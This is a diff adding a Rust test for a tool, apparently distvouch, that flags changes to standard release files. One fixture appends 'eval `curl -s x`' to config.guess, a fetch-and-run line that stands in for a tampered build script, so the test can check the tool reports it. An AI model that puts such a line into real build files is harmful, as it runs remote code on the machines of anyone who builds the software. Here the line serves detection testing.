@@ -38,6 +38,40 @@ fn source(repo: &Repo, archive: &Path, data: Option<&Path>) -> Run {
     Run::of(command.output().unwrap())
 }
 
+/// What a project published for others to copy is folded in a diff; what is only named like it is not.
+#[test]
+fn standard_files_in_a_diff() {
+    let scratch = Scratch::new();
+    let list = scratch.file("data/known/more.list");
+    for directory in [&scratch.file("files"), list.parent().unwrap()] {
+        std::fs::create_dir_all(directory).unwrap();
+    }
+    let guess = "#! /bin/sh\n# timestamp 1\neval $set_cc_for_build\n";
+    scratch.write("files/config.guess", guess);
+    let (files, output) = (scratch.file("files"), list.to_str().unwrap());
+    let made =
+        known(&["make", "--output", output, "--project", "mine", files.to_str().unwrap()], None);
+    assert_eq!(made.status, 0, "{}", made.stderr);
+    let pack = |top: &str, guess: &str| {
+        std::fs::create_dir_all(scratch.file(top)).unwrap();
+        release(
+            &scratch.file(top),
+            top,
+            &[("a.c", text("int a;\n")), ("config.guess", text(guess))],
+        )
+    };
+    let old = pack("foo-1.2", "#! /bin/sh\n# timestamp 0\n");
+    let diff = |new: &Path| {
+        let mut command = distvouch();
+        command.env("DISTVOUCH_DATA", scratch.file("data")).arg("diff").arg(&old).arg(new);
+        Run::of(command.output().unwrap()).stdout
+    };
+    let printed = diff(&pack("foo-1.3", guess));
+    assert!(printed.contains("As mine published them: 1 file (+2 -1): config.guess."), "{printed}");
+    let printed = diff(&pack("foo-1.4", &format!("{guess}eval `curl -s x`\n")));
+    assert!(printed.contains("  config.guess (+3 -1): line"), "{printed}");
+}
+
 /// A list that the person who runs the program put there is asked; one that a clone or an archive brings
 /// is not.
 #[test]
